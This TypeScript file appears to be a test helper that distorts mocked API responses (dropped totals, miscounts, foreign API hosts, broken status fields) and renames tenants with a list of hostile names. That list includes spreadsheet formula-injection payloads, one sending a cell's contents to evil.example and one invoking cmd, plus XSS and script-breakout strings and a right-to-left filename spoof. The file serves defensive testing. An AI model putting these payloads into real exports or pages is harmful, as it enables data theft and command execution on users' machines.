import type { Fault } from './faults.ts'

/** Names that an attacker, or an unlucky customer, could choose. */
export const hostileNames = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '<img src=x onerror="globalThis.pwned=1">',
  '+1-555-0100',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\tleading tab',
  '\rcarriage return',
  'two\r\nlines, "quoted"',
  'nul\u0000 bell\u0007 escape\u001b[31m',
  '\u202egnp.exe right to left',
  '</script><script>globalThis.pwned=1</script>',
  `${'very '.repeat(60)}long`,
  '   ',
  '👩‍👩‍👧 & Töchter',
] as const

type Row = Record<string, unknown>

function isRow(value: unknown): value is Row {
  return typeof value === 'object' && value !== null && !Array.isArray(value)
}

function rows(value: unknown): Row[] {
  return Array.isArray(value) ? value.filter(isRow) : []
}

/** Applies the faults that change the content of a good answer. */
export function distort(body: unknown, faults: readonly Fault[]): unknown {
  return faults.reduce((soFar, fault) => (isRow(soFar) ? distortOnce(soFar, fault) : soFar), body)
}

function distortOnce(body: Row, fault: Fault): Row {
  const chosen = (row: Row) => fault.tenantId === undefined || row.id === fault.tenantId
  switch (fault.kind) {
    case 'noSeverities': {
      const buckets = rows(body.resolutionDetectionCounts).map(({ countBySeverity: _, ...rest }) => rest)
      return { ...body, resolutionDetectionCounts: buckets }
    }
    case 'noPageTotal': {
      if (!isRow(body.pages)) return body
      const { total: _, items: __, ...pages } = body.pages
      return { ...body, pages }
    }
    case 'foreignApiHost':
      return {
        ...body,
        items: rows(body.items).map(row => (chosen(row) ? { ...row, apiHost: fault.apiHost } : row)),
      }
    case 'hostileNames':
      return {
        ...body,
        items: rows(body.items).map((row, index) => (chosen(row) ? renamed(row, index) : row)),
      }
    case 'fusionField':
      return isRow(body.data) && fault.field in body.data ? spoilField(body, body.data, fault) : body
    case 'miscount':
      return isRow(body.data) ? { ...body, data: miscounted(body.data, fault) } : body
    default:
      return body
  }
}

function spoilField(body: Row, data: Row, { field, as }: Extract<Fault, { kind: 'fusionField' }>): Row {
  const alerts = { total_results: as === 'negative' ? -1 : 7 }
  const reason = 'an example of a reason'
  const spoilt: Record<typeof as, unknown> = {
    error: null,
    null: null,
    INVALID_REQUEST: { status: as, reason, alerts },
    TRANSACTION_ERROR: { status: as, reason, alerts },
    noStatus: { status: null, reason: '', alerts },
    noTotal: { status: 'OK', reason: '', alerts: { total_results: null, list: [{ id: 'an-example' }] } },
    noTotalNoList: { status: 'OK', reason: '', alerts: { total_results: null, list: null } },
    noAlerts: { status: 'OK', reason: '', alerts: null },
    negative: { status: 'OK', reason: '', alerts },
  }
  const extensions = { code: 'DOWNSTREAM_SERVICE_ERROR' }
  return {
    ...body,
    data: { ...data, [field]: spoilt[as] },
    ...(as === 'error' && { errors: [{ message: 'conn busy', path: [field], extensions }] }),
  }
}

function miscounted(data: Row, fault: Extract<Fault, { kind: 'miscount' }>): Row {
  const wrong = (row: Row): Row => {
    const isMeant = fault.tenantId === undefined || (isRow(row.tenant) && row.tenant.id === fault.tenantId)
    return isMeant && typeof row.count === 'number' ? { ...row, count: row.count + fault.by } : row
  }
  const fields = Object.entries(data).map(([name, field]) =>
    isRow(field) && field.items && (fault.field ?? name) === name
      ? [name, { ...field, items: rows(field.items).map(wrong) }]
      : [name, field],
  )
  return Object.fromEntries(fields)
}

function renamed(row: Row, index: number): Row {
  const name = hostileNames[index % hostileNames.length]
  return { ...row, name, showAs: name }
}
